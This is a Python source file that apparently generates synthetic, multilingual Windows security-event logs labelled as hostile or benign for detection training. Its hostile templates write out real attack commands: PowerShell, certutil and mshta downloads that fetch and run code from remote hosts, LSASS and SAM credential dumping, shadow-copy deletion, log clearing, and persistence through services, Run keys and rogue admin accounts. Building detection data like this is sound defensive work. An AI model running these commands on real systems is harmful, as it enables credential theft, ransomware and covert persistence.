"""Windows events in other languages: guesses, processes, services, group members and findings, hostile and everyday."""

from __future__ import annotations

from generator.families.alerts.tongue_windows_records import Viewer
from generator.scene import Label, Scene, aftermath, attack, benign, family
from generator.world import World

_system = "C:\\Windows\\System32\\"
# In the order of the languages.
_groups = ("Administratoren", "Administrateurs", "Administradores", "Administradores", "Administrators", "Administratorzy", "Администраторы")
_staff = (("Remotedesktopbenutzer", "Drucker-Operatoren", "Vertrieb"), ("Utilisateurs du Bureau à distance", "Comptabilité"), ("Usuarios de escritorio remoto", "Contabilidad"), ("Usuários da área de trabalho remota", "Vendas"), ("Utenti desktop remoto", "Contabilità"), ("Użytkownicy pulpitu zdalnego", "Księgowość"), ("Пользователи удаленного рабочего стола", "Бухгалтерия"))


def _events(world: World, number: int, label: Label, count: int, **words: str) -> Scene:
    viewer, scene = Viewer(world), Scene()
    for _ in range(count):
        viewer.event(scene, number, label, **words)
    return scene


@family("alerts/tongue-windows-guesses", attack=True)
def guesses(world: World) -> Scene:
    account = world.pick((world.user(), world.user(), "Administrator", "administrador", "admin"))
    return _events(world, 4625, attack("Windows Threat: Failed Login", "T1110.001"), world.number(8, 30), a=account, i=world.ip())


@family("alerts/tongue-windows-slips", attack=False, weight=1.3)
def slips(world: World) -> Scene:
    return _events(world, 4625, benign("Mistyped Password"), world.pick((1, 1, 1, 2)), a=world.user(), i=world.ip())


@family("alerts/tongue-windows-processes-hostile", attack=True, weight=1.3)
def processes_hostile(world: World) -> Scene:
    name, place, address, user = world.word(6), world.pick(("C:\\Users\\Public\\", "C:\\Windows\\Temp\\", "C:\\ProgramData\\", "C:\\PerfLogs\\")), world.ip(), world.user()
    office = world.pick(("C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE", _system + "wscript.exe", _system + "inetsrv\\w3wp.exe", _system + "mshta.exe"))
    stories: list[tuple[str, str, str, Label]] = [
        (_system + "vssadmin.exe", "vssadmin delete shadows /all /quiet", place + name + ".exe", attack("Ransomware Activity", "T1490", severity="CRITICAL")),
        (_system + "WindowsPowerShell\\v1.0\\powershell.exe", f"powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{address}/{name}')", office, attack("Windows Threat: Process Creation — Suspicious", "T1059.001", "T1105")),
        (_system + "certutil.exe", f"certutil -urlcache -split -f http://{address}/{name}.exe {place}{name}.exe", _system + "cmd.exe", attack("Command and Control", "T1105")),
        (_system + "rundll32.exe", f"rundll32 {_system}comsvcs.dll, MiniDump {world.number(400, 1200)} {place}{name}.dmp full", _system + "cmd.exe", attack("Credential Theft", "T1003.001", severity="CRITICAL")),
        (_system + "reg.exe", f"reg save HKLM\\SAM {place}{name}.hiv", _system + "cmd.exe", attack("Credential Theft", "T1003.002", severity="CRITICAL")),
        (_system + "mshta.exe", f"mshta http://{address}/{name}.hta", office, attack("Defense Evasion", "T1218.005")),
        (_system + "regsvr32.exe", f"regsvr32 /s /u /i:http://{address}/{name}.sct scrobj.dll", office, attack("Defense Evasion", "T1218.010")),
        (_system + "net.exe", f"net localgroup {world.pick(_groups)} {name} /add", place + name + ".exe", attack("Persistence", "T1098.007", "T1136.001")),
        (_system + "schtasks.exe", f"schtasks /create /tn {name} /tr {place}{name}.exe /sc onlogon /ru SYSTEM", office, attack("Windows Threat: Scheduled Task Created", "T1053.005")),
        (_system + "wevtutil.exe", f"wevtutil cl {world.pick(('Security', 'System', 'Application'))}", place + name + ".exe", attack("Log Clearing", "T1070.001")),
        (_system + "reg.exe", f"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {name} /d {place}{name}.exe /f", office, attack("Persistence", "T1547.001")),
        (place + name + ".exe", f"{place}{name}.exe -accepteula -ma lsass.exe {name}", _system + "cmd.exe", attack("Credential Theft", "T1003.001", severity="CRITICAL")),
    ]
    new, command, parent, label = world.pick(stories)
    return _events(world, 4688, label, world.pick((1, 1, 1, 2, 3)), s=user, n=new, f=command, p=parent)


@family("alerts/tongue-windows-processes-everyday", attack=False, weight=1.5)
def processes_everyday(world: World) -> Scene:
    user, share = world.user(), f"\\\\{world.host()}\\{world.pick(('daten', 'partage', 'compartido', 'общая'))}"
    stories = [
        (_system + "vssadmin.exe", "vssadmin list shadows", _system + "cmd.exe"), (_system + "WindowsPowerShell\\v1.0\\powershell.exe", f"powershell -ExecutionPolicy Bypass -File {share}\\{world.pick(('Anmeldung', 'ouverture', 'inicio', 'логон'))}.ps1", _system + "svchost.exe"),
        (_system + "certutil.exe", "certutil -pulse", _system + "taskhostw.exe"), (_system + "rundll32.exe", "rundll32 printui.dll,PrintUIEntry /in /n " + share, "C:\\Windows\\explorer.exe"), (_system + "reg.exe", "reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall", _system + "cmd.exe"),
        (_system + "regsvr32.exe", "regsvr32 /s \"C:\\Program Files\\Datev\\dvcom.dll\"", _system + "msiexec.exe"), (_system + "net.exe", f"net localgroup {world.pick(_groups)}", _system + "cmd.exe"), (_system + "net.exe", f"net use P: {share} /persistent:yes", _system + "cmd.exe"),
        (_system + "schtasks.exe", "schtasks /query /fo LIST /v", _system + "cmd.exe"), (_system + "wevtutil.exe", f"wevtutil epl Security D:\\{world.pick(('Archiv', 'Sauvegarde', 'Copia', 'Архив'))}\\sec.evtx", _system + "taskeng.exe"), (_system + "gpupdate.exe", "gpupdate /force", "C:\\Windows\\explorer.exe"),
        (_system + "mshta.exe", "mshta \"C:\\Program Files\\HP\\HP Software Update\\aide.hta\"", "C:\\Program Files\\HP\\HP Software Update\\hpwuschd2.exe"), ("C:\\Program Files\\1cv8\\bin\\1cv8.exe", "1cv8.exe ENTERPRISE /F D:\\Base", "C:\\Windows\\explorer.exe"), (_system + "splwow64.exe", "splwow64.exe 8192", "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
    ]
    new, command, parent = world.pick(stories)
    return _events(world, 4688, benign("Administration"), world.pick((1, 1, 1, 2, 3)), s=user, n=new, f=command, p=parent)


@family("alerts/tongue-windows-services-hostile", attack=True)
def services_hostile(world: World) -> Scene:
    name, place = world.pick((world.word(7), world.word(5), "WinUpdateSvc", "MicrosoftEdgeHelper", "SysMonitor", "PrinterService", "TeamViewerUpdate")), world.pick(("C:\\Users\\Public\\", "C:\\Windows\\Temp\\", "\\\\127.0.0.1\\ADMIN$\\", "%SYSTEMROOT%\\", "C:\\PerfLogs\\"))
    file = world.pick((f"{place}{name}.exe", f"%COMSPEC% /Q /c echo cd ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > {place}{name}.bat & %COMSPEC% /Q /c {place}{name}.bat", f"cmd.exe /c start /b {place}{name}.exe", f"powershell -nop -w hidden -enc {world.hex(20)}", f"rundll32.exe {place}{name}.dll,Start", f"cmd.exe /c echo {name} > \\\\.\\pipe\\{name}"))
    return _events(world, 7045, attack("Windows Threat: New Service Installed", "T1543.003", "T1569.002"), world.pick((1, 1, 2)), n=name, f=file)


@family("alerts/tongue-windows-services-everyday", attack=False)
def services_everyday(world: World) -> Scene:
    product = world.pick("DATEV Lexware Sage Veeam ESET Kaspersky 1C TeamViewer HP Canon Totvs Comarch Zucchetti ContaPlus Cegid Brother Dropbox Bitdefender".split())
    file = world.pick((f"\"C:\\Program Files\\{product}\\{product}Service.exe\"", f"C:\\Program Files (x86)\\{product}\\Update\\{product}Update.exe /svc", f"{_system}drivers\\{product.lower()}flt.sys", f"{_system}svchost.exe -k {product}Group", f"\"C:\\ProgramData\\{product}\\Agent\\agent.exe\" --service"))
    return _events(world, 7045, benign("Software Update"), world.pick((1, 1, 2)), n=f"{product} {world.pick(('Service', 'Update', 'Agent'))}", f=file)


@family("alerts/tongue-windows-malware-found", attack=True)
def malware_found(world: World) -> Scene:
    name = world.pick(("Trojan:Win32/Emotet!MTB", "HackTool:Win32/Mimikatz.D", "Ransom:Win32/LockBit.AA!MTB", "Backdoor:Win32/CobaltStrike!pz", "Trojan:PowerShell/Powersploit.A", "VirTool:Win32/Meterpreter", "Behavior:Win32/CobaltStrike.E!sms", "Trojan:Script/Wacatac.B!ml", "PWS:Win32/Zbot", "Backdoor:PHP/WebShell.A"))
    file = world.pick((f"file:_C:\\Users\\{world.user()}\\Downloads\\{world.pick(('Rechnung', 'facture', 'factura', 'fattura', 'faktura', 'счет'))}{world.number(1, 99)}.exe", f"file:_C:\\Users\\Public\\{world.word(6)}.dll", f"file:_C:\\Windows\\Temp\\{world.word(5)}.ps1", f"containerfile:_C:\\Users\\{world.user()}\\AppData\\Local\\Temp\\{world.word(5)}.zip"))
    return _events(world, 1116, attack("Malware Detected", "T1204.002"), world.pick((1, 1, 2)), n=name, f=file, p=world.pick((_system + "cmd.exe", "C:\\Windows\\explorer.exe", "Unknown")))


@family("alerts/tongue-windows-scans-finished", attack=False)
def scans_finished(world: World) -> Scene:
    return _events(world, 1001, benign("Authorised Scan"), world.pick((1, 1, 2)), f=world.pick(("C:\\", "D:\\Daten", "E:\\Sauvegarde", "C:\\Users", "D:\\Архив", "-", "C:\\Users\\Public", "F:\\USB")))


@family("alerts/tongue-windows-administrators-added", attack=True)
def administrators_added(world: World) -> Scene:
    name = world.word(6)
    viewer, scene, label = Viewer(world), Scene(), attack("Persistence", "T1136.001", "T1098.007")
    viewer.event(scene, 4688, label, s="SYSTEM", n=_system + "net.exe", f=f"net user {name} {name.capitalize()}{world.number(1, 99)}! /add", p=world.pick((_system + "inetsrv\\w3wp.exe", f"C:\\Users\\Public\\{name}.exe", "C:\\Program Files\\Microsoft SQL Server\\MSSQL\\Binn\\sqlservr.exe")))
    viewer.event(scene, 4732, aftermath(label), s="SYSTEM", a=name, n=_groups[viewer.place()])
    return scene


@family("alerts/tongue-windows-members-added", attack=False)
def members_added(world: World) -> Scene:
    viewer, scene = Viewer(world), Scene()
    for _ in range(world.pick((1, 1, 2))):
        place = viewer.place()
        viewer.event(scene, 4732, benign("Administration"), s=world.user(), a=world.user(), n=world.pick((_groups[place], *_staff[place])))
    return scene
